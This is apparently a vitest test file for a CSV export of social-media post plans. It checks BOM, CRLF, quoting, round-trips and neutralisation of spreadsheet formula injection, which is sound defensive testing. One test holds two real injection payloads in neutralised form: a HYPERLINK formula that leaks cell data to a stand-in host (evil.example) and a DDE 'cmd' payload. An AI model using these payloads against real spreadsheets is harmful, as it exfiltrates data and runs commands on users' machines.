// The CSV view parsed back with csv-parse: header, one row per post, BOM, CRLF, quoting and formula safety.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csv, neutralise } from '../../src/formats/csv.js';
import { localDate, localTime, sortedPosts } from '../../src/formats/view.js';
import type { Plan, Post } from '../../src/model/plan.js';
import { FIXTURES, deepFreeze, loadFixture } from './fixtures.js';

const FORMULA = /^[=+\-@\t\r]/;

function rows(text: string): string[][] {
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false }) as string[][];
}

/** What a spreadsheet shows: the leading apostrophe is the neutraliser, not content. */
function shown(cell: string): string {
  return cell.startsWith("'") && FORMULA.test(cell.slice(1)) ? cell.slice(1) : cell;
}

describe('csv view', () => {
  for (const fixture of FIXTURES) {
    it(`${fixture.name}: one row per post, every field back as written`, () => {
      const plan = deepFreeze(loadFixture(fixture.name));
      const text = csv(plan, { lang: fixture.lang });
      const [header, ...body] = rows(text);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(body).toHaveLength(plan.posts.length);
      sortedPosts(plan).forEach((post, i) => {
        const row = Object.fromEntries(CSV_COLUMNS.map((c, j) => [c, shown(body[i]![j]!)]));
        expect(row).toEqual({
          date: localDate(post),
          time: localTime(post),
          kind: post.kind,
          topic: post.topic ?? '',
          product: post.product ?? '',
          marketing: String(post.marketing),
          salesiness: String(post.salesiness),
          template: post.template,
          text: post.text,
          images: post.images.join('\n'),
        });
      });
      for (const cell of body.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);
    });
  }

  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    const text = csv(loadFixture('zh-shanghai'), { lang: 'zh-CN' });
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.slice(1).startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    // Newlines inside a post stay inside a quoted field (RFC 4180 §2.6).
    expect(text).toContain('"好几位朋友问白茶怎么存。其实就三点：\n1. 避光');
  });

  it('neutralises a product that starts with "=" and texts that start with "-", "+", "@" or a tab', () => {
    const text = csv(loadFixture('hostile'), { lang: 'en' });
    const body = rows(text).slice(1);
    const col = (name: (typeof CSV_COLUMNS)[number]): string[] => body.map((r) => r[CSV_COLUMNS.indexOf(name)]!);
    expect(col('product')).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"点我")`);
    expect(col('product')).toContain(`'-cmd|' /C calc'!A0`);
    expect(col('text')[0]).toMatch(/^'-1 元试用/);
    expect(col('text')[1]).toMatch(/^'\+ 今天/);
    expect(col('text')[2]).toMatch(/^'\t缩进/);
    expect(col('text')[3]).toMatch(/^'@所有人/);
    expect(col('topic')).toEqual(['', "'+tips", "'@home", '']);
  });

  it('neutralise leaves ordinary text alone and prefixes exactly the dangerous starts', () => {
    fc.assert(
      fc.property(fc.string(), (cell) => {
        const out = neutralise(cell);
        expect(out).not.toMatch(FORMULA);
        expect(out).toBe(FORMULA.test(cell) ? `'${cell}` : cell);
      }),
    );
  });

  it('round-trips any text, quotes and newlines included', () => {
    const base = loadFixture('zh-shanghai');
    fc.assert(
      // A text that itself starts with "'" + "=" reads back like a neutralised one; that ambiguity is OWASP's.
      fc.property(fc.array(fc.string({ unit: 'grapheme' }).filter((t) => !t.startsWith("'")), { minLength: 1, maxLength: 5 }), (texts) => {
        const posts: Post[] = texts.map((t, i) => ({ ...base.posts[0]!, id: `p-${i}`, at: `2026-11-02T0${i}:00:00+08:00`, text: t }));
        const plan: Plan = { ...base, posts };
        const body = rows(csv(plan, { lang: 'en' })).slice(1);
        expect(body.map((r) => shown(r[CSV_COLUMNS.indexOf('text')]!))).toEqual(texts);
      }),
    );
  });
});
